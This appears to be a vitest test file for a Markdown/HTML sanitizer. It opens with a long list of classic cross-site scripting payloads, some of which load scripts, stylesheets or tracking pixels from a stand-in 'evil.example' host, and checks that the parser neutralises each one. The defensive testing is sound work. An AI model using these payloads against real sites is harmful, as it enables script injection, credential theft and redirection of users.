import type { ElementContent } from 'hast';
import { describe, expect, it } from 'vitest';
import { bodyHtml, parse, rulesBroken } from './parse';
import { faultsOf, faultsOfBody, places } from './tree-faults';

/** Classics of script injection, each of which has worked somewhere. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<img src="x" srcset="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></p><script>alert(1)</script></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div class="site-header" id="search">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://bank.example@evil.example">x</a>',
  '<a href="#" target=_blank onclick=alert(1) ping="//evil.example">x</a>',
  '<a data-footnote-ref href="javascript:alert(1)" id="x" aria-describedby="y">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:x)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](%5C%5Cevil.example)',
  '[x](/%09/evil.example)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x"onerror="alert(1)](y.jpg)',
  '[x](y "\\" onmouseover=alert(1)")',
  '`<script>alert(1)</script>`',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></p><script>alert(1)</script></textarea>',
  '<title></title><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>y</x>',
  '</li></ul></td></tr></table></section><script>alert(1)</script>',
  '<table><td><script>alert(1)</script></table>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<a name=constructor id=__proto__>x</a>',
  '<q lang="nb\' onclick=alert(1)">x</q>',
];

describe.each(Object.entries(places))('an attack in a %s', (_, place) => {
  it.each(attacks)('%j does nothing', (attack) => {
    expect(faultsOfBody(parse(place(attack)).body)).toEqual([]);
  });
});

it('knows a bad tree when it sees one', () => {
  const script: ElementContent = { type: 'element', tagName: 'script', properties: {}, children: [] };
  const link: ElementContent = {
    type: 'element',
    tagName: 'a',
    properties: { href: 'javascript:x' },
    children: [],
  };
  const image: ElementContent = {
    type: 'element',
    tagName: 'img',
    properties: { onError: 'x' },
    children: [],
  };
  expect([script, link, image].flatMap(faultsOf)).toEqual(['script', 'href javascript:x', 'img onError']);
});

describe('raw HTML', () => {
  it('keeps what the schema knows', () => {
    expect(
      bodyHtml(
        'H<sub>2</sub>O, m<sup>2</sup>, <kbd>Esc</kbd>, <q lang="nb">hei</q>, <abbr title="SKR">S</abbr><br>',
      ),
    ).toBe(
      '<p>H<sub>2</sub>O, m<sup>2</sup>, <kbd>Esc</kbd>, <q lang="nb">hei</q>, <abbr title="SKR">S</abbr><br/></p>',
    );
  });

  it('loses unknown elements but keeps their words, and drops what is no text', () => {
    expect(bodyHtml('<div>a <font color=red>b</font></div><script>c</script><style>d</style>')).toBe('a b');
  });

  it('drops comments without a word', () => {
    expect(parse('a <!-- b --> c\n\n<!-- d -->').problems).toEqual([]);
    expect(bodyHtml('a <!-- b --> c\n\n<!-- d -->')).toBe('<p>a  c</p>');
  });

  it('cannot reach out of its part', () => {
    const text = '- a</li></ul></section><h2>x\n\n## B\n\n:::callout\n</div></p>c\n:::\n\nd';
    const { sections } = parse(text).body;
    expect(sections.map(({ heading }) => heading)).toEqual([undefined, 'B']);
    expect(sections[1]?.blocks.map(({ kind }) => kind)).toEqual(['callout', 'prose']);
  });

  it('gives the tree that a browser would build', () => {
    // Without its button the inner paragraph would stand inside the outer one.
    expect(bodyHtml('<p>a<button><p>b</p></button></p>')).toBe('<p>a</p><p>b</p><p></p>');
    expect(bodyHtml('<li>a</li>')).toBe('a');
  });

  it('gives nobody an id, a class or a footnote of their own', () => {
    const text =
      '<h3 id="x" class="y">A</h3>\n\n<a data-footnote-ref href="#not-1">1</a><section>b</section>';
    expect(bodyHtml(`## X\n\n${text}`)).toBe(
      '<h2>X</h2><h3 id="a">A</h3><p><a href="#not-1">1</a></p>b<p></p>',
    );
  });
});

describe('alignment, code and tasks need no class', () => {
  it('uses data-align', () => {
    expect(bodyHtml('| a | b |\n|:-:|--:|\n| c | d |')).toContain(
      '<td data-align="center">c</td><td data-align="right">d</td>',
    );
    expect(rulesBroken('<table><tr><td align="justify">a</td></tr></table>')).toEqual(['markup-stripped']);
  });

  it('drops the language of a code block', () => {
    expect(bodyHtml('```js\na\n```')).toBe('<pre><code>a\n</code></pre>');
  });

  it('shows tasks as characters', () => {
    expect(bodyHtml('- [x] a\n- [ ] b')).toBe('<ul><li>☑ a</li><li>☐ b</li></ul>');
  });
});
